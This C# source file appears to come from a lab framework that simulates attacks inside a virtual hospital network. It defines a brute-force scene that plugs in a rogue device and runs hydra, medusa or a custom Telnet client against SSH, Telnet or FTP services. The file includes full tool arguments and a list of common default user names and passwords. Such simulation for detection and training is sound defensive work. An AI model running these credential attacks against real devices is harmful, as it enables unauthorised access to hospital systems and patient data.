using System.Text.RegularExpressions;
using Wardkeeper.Lab.Actors.Shells;
using Wardkeeper.Lab.Hospital;
using Wardkeeper.Lab.Services;
using Wardkeeper.Lab.Site;

namespace Wardkeeper.Lab.Attacks.Access;

/// <summary>hydra, medusa or a small client of ours tries a list of names with a list of passwords on a device's shell or file server.</summary>
internal sealed partial class BruteForce() : Scene("brute-force",
    "A laptop tries many user names and passwords on a device that offers SSH, Telnet or FTP.",
    "一台笔记本电脑对提供 SSH、Telnet 或 FTP 的设备批量尝试用户名和口令。",
    "T1110.001", "T1021.004")
{
    private static readonly string[] Protocols = ["ssh", "telnet", "ftp"];
    private static readonly string[] Names = ["admin", "root", "service", "user", "guest", "operator", "tech", "dicom", "administrator", "support"];
    private static readonly string[] Words = ["123456", "password", "admin", "service", "root", "12345678", "letmein", "qwerty", "dicom", "hospital", "Passw0rd", "changeme", "111111", "888888", "default"];

    /// <inheritdoc/>
    public override IReadOnlyList<Requirement> Needs => [new("hydra", "hydra"), new("medusa", "medusa")];

    /// <inheritdoc/>
    public override async Task<SceneReport> RunAsync(SceneStage stage, CancellationToken cancel)
    {
        (string Protocol, HospitalDevice Server)[] offered = [.. Cast.Inside(stage.Site).SelectMany(device => Protocols.Where(device.Offers.Contains), (device, protocol) => (protocol, device))];
        if (offered.Length == 0) throw new LabException("no device of this hospital offers ssh, telnet or ftp");
        string protocol = stage.Dice.Of([.. offered.Select(one => one.Protocol).Distinct().Order(StringComparer.Ordinal)]);
        HospitalDevice server = stage.Dice.Of([.. offered.Where(one => one.Protocol == protocol).Select(one => one.Server)]);
        // hydra and medusa lose count with telnetd: there a small client of ours guesses.
        string program = protocol switch { "ssh" => "hydra", "telnet" => "own", _ => stage.Dice.Of(["hydra", "medusa"]) };
        string[] names = stage.Dice.Some(Names, stage.Dice.Between(1, 3)), words = stage.Dice.Some(Words, stage.Dice.Between(4, 7));
        int atOnce = stage.Dice.Between(2, 4), guesses = names.Length * words.Length;
        HostNamespace rogue = await stage.PlugAsync(RogueDevice.In(stage, stage.Dice.Of(Cast.Inside(stage.Site)).Department), cancel);

        stage.Begin();
        int found = program == "own" ? await GuessAsync(rogue, server, names, words, atOnce, cancel) : await RunAsync(stage, rogue, program, protocol, server, names, words, atOnce, cancel);
        return new SceneReport([AllOf(rogue)],
            [("attacker", rogue.Device.Ip.ToString()), ("program", program), ("protocol", protocol), ("server", server.Key), ("names", string.Join(' ', names)), ("guesses", SceneStage.Text(guesses)), ("found", SceneStage.Text(found))]);
    }

    /// <summary>Runs one of the programs.</summary>
    /// <returns>Guesses that were right.</returns>
    private static async Task<int> RunAsync(SceneStage stage, HostNamespace rogue, string program, string protocol, HospitalDevice server, string[] names, string[] words, int atOnce, CancellationToken cancel)
    {
        string folder = stage.Folder("brute-force"), nameFile = Path.Combine(folder, "names"), wordFile = Path.Combine(folder, "words");
        await File.WriteAllLinesAsync(nameFile, names, cancel);
        await File.WriteAllLinesAsync(wordFile, words, cancel);
        ProgramResult result = await stage.RunAsync(rogue, program, program == "hydra"
            ? ["-I", "-V", "-t", SceneStage.Text(atOnce), "-L", nameFile, "-P", wordFile, $"{protocol}://{server.Ip}"]
            : ["-h", server.Ip.ToString(), "-U", nameFile, "-P", wordFile, "-M", protocol, "-t", SceneStage.Text(atOnce)], cancel, seconds: 90);
        int tried = Tried().Count(result.Output), found = Found().Count(result.Output);
        // What has let one in is not tried further with that name.
        return tried > 0 && (found > 0 || tried >= names.Length * words.Length) ? found : throw new LabException($"{program} tried {tried} of {names.Length * words.Length} guesses on {protocol} of {server.Key}: {result.Output} (log: {result.Log})");
    }

    private static async Task<int> GuessAsync(HostNamespace rogue, HospitalDevice server, string[] names, string[] words, int atOnce, CancellationToken cancel)
    {
        int found = 0;
        await Parallel.ForEachAsync(names.SelectMany(_ => words, (name, word) => (name, word)), new ParallelOptions { MaxDegreeOfParallelism = atOnce, CancellationToken = cancel }, async (guess, stop) =>
        {
            if (await TelnetCall.TryAsync(rogue, server.Ip, guess.name, guess.word, stop)) Interlocked.Increment(ref found);
        });
        return found;
    }

    [GeneratedRegex(@"^\[ATTEMPT\]|^ACCOUNT CHECK:", RegexOptions.Multiline)]
    private static partial Regex Tried();

    [GeneratedRegex(@"^\[\d+\]\[\w+\] host: .*password:|^ACCOUNT FOUND:", RegexOptions.Multiline)]
    private static partial Regex Found();
}
